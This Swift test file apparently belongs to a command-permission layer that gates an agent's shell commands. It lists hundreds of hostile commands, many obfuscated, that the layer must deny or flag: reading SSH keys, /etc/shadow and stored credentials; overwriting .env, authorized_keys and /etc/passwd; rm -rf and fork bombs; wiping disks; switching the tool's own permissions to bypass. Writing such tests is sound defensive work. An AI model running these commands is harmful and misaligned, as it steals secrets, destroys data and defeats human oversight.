import Testing

/// Command lines that reach what the floor protects. `verdict proof => command`: what must be said of it at least (deny, or ask:
/// anything but allow), although a rule allows every command and the mode is bypass; and what shows that it works: `leak` prints a
/// secret, `change` changes a protected file, `gone` removes one. `ROOT` is nothing when it is judged and a throwaway folder when it
/// is run; the home is one, too, and the command runs in a folder of it.
struct PathAttack: Sendable, CustomTestStringConvertible {
  let kind: String
  let verdict: String
  let proof: String
  let command: String
  var testDescription: String { "\(kind): \(command)" }

  static let all = [reading, writing, removing, raw, rights, review].flatMap(\.self)

  static func list(_ kind: String, _ lines: String) -> [PathAttack] {
    lines.split(separator: "\n").map { line in
      let parts = line.split(separator: " => ", maxSplits: 1)
      let words = parts[0].split(separator: " ")
      return PathAttack(
        kind: kind, verdict: String(words[0]), proof: String(words[1]),
        command: String(parts[1].replacing("⏎", with: "\n")))
    }
  }

  static let reading = list(
    "reading keys and passwords (CVE-2025-54794, CVE-2026-24887)",
    """
    ask leak => for PWD in ~/.s?h; do cat "${PWD}"/id_rsa ~+/id_rsa; done
    ask leak => for HOME in ~/.s?h; do cat ~/id_rsa; done
    ask leak => for HOME in ../.s[s]h; do cat ~/id_rsa; done
    ask leak => read -r HOME <<< ~/.ssh; cat ~/id_rsa
    ask leak => printf -v HOME %s ../.ssh; cat ~/id_rsa
    ask leak => cd ~/.ssh; cat $PWD/id_rsa
    ask leak => cd ~/.ssh; cat ~+/id_rsa
    ask leak => cd ~/.ssh; cd ~; cat ~-/id_rsa
    ask leak => cd ~/.ssh; cd ~; cat $OLDPWD/id_rsa
    deny leak => cat ~/.ssh/id_rsa
    deny leak => cat $HOME/.ssh/id_rsa
    deny leak => cat "${HOME}/.ssh/id_rsa"
    deny leak => cat ../.ssh/id_rsa
    deny leak => cat ./../.ssh//id_rsa
    deny leak => cat ~/work/../.ssh/id_rsa
    deny leak => cat ~/.ss'h'/id_rsa
    deny leak => cat ~/.s\\sh/id_rsa
    deny leak => cat ~/.s*/id_rsa
    deny leak => cat ~/.ss?/id_*
    deny leak => cat ~/.[s]sh/id_rsa
    deny leak => cat ~/.{ssh,none}/id_rsa
    deny leak => cat {~/.ssh/id_rsa,a}
    deny leak => cat < ~/.ssh/id_rsa
    deny leak => while read -r x; do echo "$x"; done < ~/.ssh/id_rsa
    deny leak => echo "$(<~/.ssh/id_rsa)"
    deny leak => cat <<<"$(cat ~/.ssh/id_rsa)"
    deny leak => mapfile -t x < ~/.ssh/id_rsa; echo "${x[@]}"
    deny leak => cd ~/.ssh; cat id_rsa
    deny leak => cd ~ && cat .ssh/id_rsa
    deny leak => cd .. && cat .ssh/id_rsa
    deny leak => cd ~/.ssh && cat *
    deny leak => pushd ~/.ssh >/dev/null; cat id_rsa
    deny leak => (cd ~/.ssh; cat id_rsa)
    deny leak => d=~/.ssh; cat $d/id_rsa
    deny leak => d=.ssh; cat ~/$d/id_rsa
    deny leak => a=~; b=$a/.ssh; cat "$b/id_rsa"
    deny leak => for f in ~/.ssh/id_rsa; do cat "$f"; done
    deny leak => for f in a id_rsa; do cat ~/.ssh/$f; done
    ask leak => for f in ~/.ssh/*; do cat "$f"; done
    ask leak => read -r f <<<~/.ssh/id_rsa; cat "$f"
    ask leak => f=$(echo ~/.ssh/id_rsa); cat "$f"
    ask leak => cat "$(printf '%s/.s%s/id_rsa' ~ sh)"
    ask leak => cd "$(printf '%s/.s%s' ~ sh)" && cat id_rsa
    ask leak => x=cat; $x ~/.ssh/id_rsa
    ask leak => cat$IFS~/.ssh/id_rsa; cat ${HOME}/.ss"h"/id_rsa
    deny leak => head -c 100 ~/.ssh/id_rsa
    deny leak => tail -n +1 ~/.ssh/id_rsa
    deny leak => grep -r SECRET ~/.ssh
    deny leak => grep SECRET ~/.ssh/id_rsa
    ask leak => grep -r SECRET ~
    ask leak => grep -rh SECRET ..
    deny leak => sed p ~/.ssh/id_rsa
    deny leak => sed -n p ~/.ssh/id_rsa
    ask leak => sed 'r ../.ssh/id_rsa' a
    deny leak => awk 1 ~/.ssh/id_rsa
    deny leak => awk '{print}' ~/.ssh/id_rsa
    deny leak => base64 -w0 ~/.ssh/id_rsa | base64 -d
    deny leak => od -c ~/.ssh/id_rsa >/dev/null; cat ~/.ssh/id_rsa
    deny leak => sort ~/.ssh/id_rsa
    deny leak => tac ~/.ssh/id_rsa
    deny leak => nl ~/.ssh/id_rsa
    deny leak => diff a ~/.ssh/id_rsa
    deny leak => dd if=$HOME/.ssh/id_rsa
    deny leak => cp ~/.ssh/id_rsa b; cat b
    deny leak => cp -r ~/.ssh c; cat c/id_rsa
    ask leak => cp -r ~ /tmp/cmdop-attack-$$; cat /tmp/cmdop-attack-$$/.ssh/id_rsa; rm -r /tmp/cmdop-attack-$$
    deny leak => ln ~/.ssh/id_rsa b; cat b
    deny leak => ln -s ~/.ssh b; cat b/id_rsa
    ask leak => ln -s ~ b; cat b/.ssh/id_rsa
    deny leak => mv ~/.ssh b; cat b/id_rsa
    deny leak => tar cf - -C ~ .ssh | tar xOf -
    ask leak => tar cf - ~ 2>/dev/null | tar xOf -
    deny leak => tar -cf- ~/.ssh 2>/dev/null | tar -xOf-
    deny leak => find ~/.ssh -type f -exec cat {} \\;
    ask leak => find ~ -name id_rsa -exec cat {} \\;
    ask leak => find ~ -name id_rsa | xargs cat
    ask leak => find .. -name id_rsa -exec cat {} +
    deny leak => xargs -a ~/.ssh/id_rsa echo
    deny leak => echo ~/.ssh/id_rsa | xargs cat; cat ~/.ssh/id_rsa
    deny leak => bash -c 'cat ~/.ssh/id_rsa'
    deny leak => bash -c "cat ~/.ssh/id_rsa"
    deny leak => sh -c 'cat $HOME/.ssh/id_rsa'
    deny leak => env cat ~/.ssh/id_rsa
    deny leak => nice nohup cat ~/.ssh/id_rsa
    deny leak => eval cat ~/.ssh/id_rsa
    deny leak => eval 'cat ~/.ssh/id_rsa'
    deny leak => command cat ~/.ssh/id_rsa
    deny leak => f() { cat ~/.ssh/id_rsa; }; f
    deny leak => if true; then cat ~/.ssh/id_rsa; fi
    deny leak => cat a ~/.ssh/id_rsa
    deny leak => cat -- ~/.ssh/id_rsa
    deny leak => cat --number ~/.ssh/id_rsa
    deny leak => cat --show-all a --number ~/.ssh/id_rsa
    deny leak => sort --files0-from=- <<<x; cat ~/.ssh/id_rsa
    deny leak => curl -s file://$HOME/.ssh/id_rsa
    deny leak => python3 -c 'print(open("../.ssh/id_rsa").read())'
    deny leak => perl -pe 1 ~/.ssh/id_rsa
    deny leak => perl -e 'open F,"../.ssh/id_rsa";print <F>'
    deny leak => awk 'BEGIN{while((getline x < "../.ssh/id_rsa")>0) print x}'
    deny leak => cd ~; cat /proc/self/cwd/.ssh/id_rsa
    deny leak => cat /proc/self/root/$HOME/.ssh/id_rsa
    deny none => cat /proc/self/root/etc/shadow
    ask leak => printf '%s\\n' .ssh/id_rsa > list; tar -C ~ -cf - -T list | tar xOf -
    ask none => zip -r x.zip ~
    ask none => docker run -v /:/host alpine cat /host/etc/shadow
    deny leak => cat ROOT/etc/shadow
    deny leak => cat ROOT/etc/shado?
    deny leak => cat ROOT/etc/*
    deny leak => cat ROOT//etc/./shadow
    deny leak => cat ROOT/etc/../etc/shadow
    deny leak => cd ROOT/etc; cat shadow
    deny leak => cat ~/.cmdop/permissions.yaml
    deny leak => cat ~/.cmdop/credentials.json
    deny leak => cat ~/.cmdop/cmdop.db
    deny leak => cat ~/.cmdop/logs/audit.log
    deny leak => cat ~/.cmd*/cred*
    deny leak => strings ~/.cmdop/cmdop.db 2>/dev/null; cat ~/.cmdop/cmdop.db
    """)

  static let writing = list(
    "redirections and writes (CVE-2026-24053, gemini allowRedirection, CVE-2026-25725, CVE-2025-61260)",
    """
    deny change => echo x > .env
    deny change => echo x >> .env
    deny change => echo x >| .env
    deny change => echo x &> .env
    deny change => echo x &>> .env
    deny change => echo x >& .env
    deny change => echo x 1> .env
    deny change => echo x 2> .env
    deny change => exec 3> .env; echo x >&3
    deny change => exec {fd}> .env; echo x >&$fd
    deny change => : <> .env; echo x > .env
    deny change => > .env
    deny change => { echo x; } > .env
    deny change => (echo x) > .env
    deny change => if true; then echo x; fi > .env
    deny change => for i in 1; do echo x; done > .env
    deny change => while true; do echo x; break; done > .env
    deny change => [[ a ]] > .env
    deny change => f() { echo x; } > .env; f
    deny change => echo x > '.env'
    deny change => echo x > ."env"
    deny change => echo x > $'.\\x65nv'
    deny change => echo x > ./.env
    deny change => echo x > ../work/.env
    deny change => echo x > ~/work/.env
    deny change => f=.env; echo x > $f
    deny change => f=env; echo x > .$f
    ask change => f=$(echo .env); echo x > "$f"
    ask change => echo x > "$(echo .env)"
    deny change => echo x | tee .env
    deny change => echo x | tee -a .env
    deny change => cp a .env
    deny change => cp a b .; mv a .env
    deny change => mv a .env
    deny change => ln -sf a .env
    deny change => install a .env
    deny change => dd if=a of=.env 2>/dev/null
    deny change => truncate -s 0 .env
    deny change => sed -i s/S/T/ .env
    deny change => sed --in-place s/S/T/ .env
    deny change => perl -pi -e s/S/T/ .env
    deny change => touch -d @0 .env
    deny change => rm .env
    deny change => unlink .env
    deny change => chmod 777 .env
    deny change => cat a > .env
    deny change => sort a -o .env
    deny change => find . -name .env -delete; rm .env
    deny change => echo x > .git/hooks/post-commit
    deny change => cp a .git/config
    deny change => rm -rf .git
    deny change => rm -r .git
    deny change => mv .git b
    deny change => echo x >> ~/.ssh/authorized_keys
    deny change => cp a ~/.ssh/authorized_keys
    deny change => tee ~/.ssh/authorized_keys <<<x
    deny change => echo x > ROOT/etc/passwd
    deny change => cp a ROOT/etc/passwd
    deny change => cp a ROOT/etc/
    deny change => cp -t ROOT/etc a
    deny change => cp --target-directory=ROOT/etc a
    deny change => mv a ROOT/etc
    deny change => ln -s a ROOT/etc/x
    deny change => touch ROOT/etc/x
    deny change => mkdir ROOT/etc/x
    deny change => tar xf a.tar -C ROOT/etc
    deny change => tar -x -f a.tar --directory=ROOT/etc
    deny change => cd ROOT/etc; touch x
    deny change => cd ROOT/etc && echo x > passwd
    deny change => sed -i s/a/b/ ROOT/etc/passwd
    deny change => echo x > ~/.cmdop/permissions.yaml
    deny change => rm ~/.cmdop/permissions.yaml
    deny change => mv ~/.cmdop ~/x
    deny change => cp a ~/.cmdop/permissions.yaml
    deny change => truncate -s 0 ~/.cmdop/logs/audit.log
    deny change => : > ~/.cmdop/logs/audit.log
    deny change => rm -rf ~/.cmdop
    ask change => xargs -I X cp a X <<<.env
    ask change => echo .env | xargs rm
    ask change => echo .env | xargs -n1 truncate -s 0
    ask change => python3 -c 'open(".env","w")'
    ask change => perl -e 'open F,">.env"'
    ask change => awk 'BEGIN{print "x" > ".env"}'
    ask change => source ./script.sh; x=.env; cp a $x
    """)

  static let removing = list(
    "the rm -rf / family",
    """
    deny gone => rm -rf ROOT/
    deny gone => rm -rf ROOT/*
    deny gone => rm -fr ROOT/
    deny gone => rm -r -f ROOT/
    deny gone => rm --recursive --force ROOT/
    deny gone => rm --recur --force ROOT/
    deny gone => rm -Rf ROOT/
    deny gone => rm -rf ROOT/./*
    deny gone => rm -rf -- ROOT/*
    deny gone => rm -rf ROOT//
    deny gone => rm -rf ROOT/etc/..//*
    deny gone => rm -rf ROOT/{etc,usr}
    deny gone => rm -rf ROOT/etc
    deny gone => rm -rf ROOT/usr
    deny gone => rm -rf ROOT/home
    deny gone => cd ROOT/ && rm -rf *
    deny gone => cd ROOT/; rm -rf ./*
    deny gone => rm -rf ROOT/"$NOTHING"
    deny gone => rm -rf "ROOT/$NOTHING"/*
    deny gone => x=; rm -rf ROOT/$x
    deny gone => 'rm' -rf ROOT/
    deny gone => \\rm -rf ROOT/
    deny gone => /bin/rm -rf ROOT/
    deny gone => command rm -rf ROOT/
    deny gone => env rm -rf ROOT/
    deny gone => nice rm -rf ROOT/
    deny gone => timeout 9 rm -rf ROOT/
    deny gone => bash -c 'rm -rf ROOT/'
    deny gone => bash -c "rm -rf ROOT/*"
    deny gone => eval 'rm -rf ROOT/'
    deny gone => true && rm -rf ROOT/
    deny gone => echo $(rm -rf ROOT/)
    deny gone => { rm -rf ROOT/; }
    deny gone => for d in ROOT/usr ROOT/etc; do rm -rf "$d"; done
    deny gone => find ROOT/ -delete
    deny gone => find ROOT/ -exec rm -rf {} +
    deny gone => find ROOT/etc -type f -delete
    deny gone => mv ROOT/etc ROOT/x
    deny gone => rm -rf ~
    deny gone => rm -rf ~/
    deny gone => rm -rf ~/*
    deny gone => rm -rf $HOME
    deny gone => rm -rf "$HOME"/*
    deny gone => rm -rf ../../anna
    deny gone => cd ~ && rm -rf *
    deny gone => rm -rf ROOT/ --no-preserve-root
    ask gone => echo ROOT/etc ROOT/usr | xargs rm -rf
    ask gone => rm -rf "$(echo ROOT/etc)" ROOT/tmp
    ask gone => x=rm; $x -rf ROOT/
    deny none => :(){ :|:& };:
    deny none => bomb() { bomb | bomb & }; bomb
    deny none => f(){ f & f & }; f
    deny none => function f { f | f; }; f
    deny none => while true; do bash -c : & done
    deny none => perl -e 'fork while fork'
    deny none => python3 -c 'import os⏎while 1: os.fork()'
    deny none => bash -c ':(){ :|:& };:'
    deny none => python3 -c 'import os; os.system("rm -rf /")'
    deny none => perl -e 'system "rm -rf /*"'
    """)

  static let raw = list(
    "block devices and memory",
    """
    deny change => dd if=a of=ROOT/dev/sda 2>/dev/null
    deny change => echo x > ROOT/dev/sda
    deny change => cat a > ROOT/dev/nvme0n1
    deny change => cp a ROOT/dev/sda
    deny change => tee ROOT/dev/sda <<<x
    deny change => tee ROOT/dev/{sda,sdb} <<<x
    deny change => shred -n 1 ROOT/dev/sda
    deny change => dd of=ROOT/dev/../dev/sda <a 2>/dev/null
    deny change => cd ROOT/dev; echo x > sda
    deny none => mkfs.ext4 /dev/sda1
    deny none => mkfs -t ext4 /dev/nvme0n1p1
    deny none => wipefs -a /dev/vda
    deny none => fdisk /dev/sda
    deny none => mkswap /dev/sdb2
    deny none => blkdiscard /dev/nvme0n1
    deny none => cat /dev/mem
    deny leak => cat ROOT/dev/sda
    deny leak => dd if=ROOT/dev/sda 2>/dev/null
    deny none => cat /proc/1/environ
    deny none => cat /proc/self/environ
    deny none => strings /proc/$$/environ; cat /proc/self/environ
    deny none => cat /proc/*/environ
    """)

  static let rights = list(
    "raising one's own rights",
    """
    deny none => cmdop permissions allow 'execute_command(*)'
    deny none => cmdop permissions mode bypass
    deny none => cmdop --json permissions mode bypass
    deny none => cmdop --home /tmp/x permissions mode bypass
    deny none => cmdop permissions revoke x
    deny none => /usr/local/bin/cmdop permissions mode bypass
    deny none => ./cmdop permissions mode bypass
    deny none => env cmdop permissions mode bypass
    deny none => bash -c 'cmdop permissions mode bypass'
    deny none => echo y | cmdop permissions mode bypass
    deny none => true; cmdop permissions mode bypass
    deny none => cmdop exec localhost -- rm x
    deny none => cmdop exec localhost status
    deny none => cmdop --fleet status exec localhost x
    deny none => cmdop chat -p hello
    deny none => cmdop ask localhost hello
    deny none => cmdop approvals
    deny none => cmdop connect localhost
    deny none => cmdop connect status
    deny none => cmdop cp a localhost:b
    deny none => cmdop
    deny none => cmdop share create
    deny none => cmdop session create
    deny none => cmdop session
    deny none => cmdop permissions
    deny none => cmdop agent --json restart status
    deny none => cmdop fleet use x
    deny none => cmdop exec localhost --help
    deny none => sudo -n cmdop chat
    deny none => sh -c 'cmdop exec localhost x'
    deny none => env A=1 cmdop exec localhost x
    deny none => echo mode bypass | xargs cmdop permissions
    deny none => echo localhost x | xargs cmdop exec
    deny none => exec -a cmdop-agent cmdop status
    deny none => bash -c 'exec -a cmdop-mcp /usr/local/bin/cmdop version'
    deny none => cmdop-new-role
    ask none => python3 -c 'import os; os.system("cmd" + "op; cmdop chat")'
    ask none => ssh localhost cmdop permissions mode bypass
    deny none => ps auxe
    deny none => ps axeww
    deny none => ps e
    deny none => ps e -p 1
    deny none => ps -axe
    deny none => ps -o pid e
    deny none => sudo ps eww
    deny none => systemctl show-environment
    deny none => systemctl --user show-environment
    deny none => systemctl show nginx -p Environment
    deny none => systemctl show nginx --property=Id,Environment
    deny none => systemctl show -pEnvironment nginx
    deny none => cmdop auth create-key x
    deny none => cmdop login evil.example
    deny none => cmdop join x
    deny none => cmdop agent restart
    deny none => cmdop stop
    deny none => cmdop service uninstall
    deny none => cmdop mcp servers add x
    deny none => cmdop connect password clear
    deny none => cmdop connect share x
    deny none => cmdop-agent restart
    deny none => cmdop "$(echo permissions)" mode bypass
    ask none => c=cmdop; $c $(echo permissions) mode bypass
    """)
}
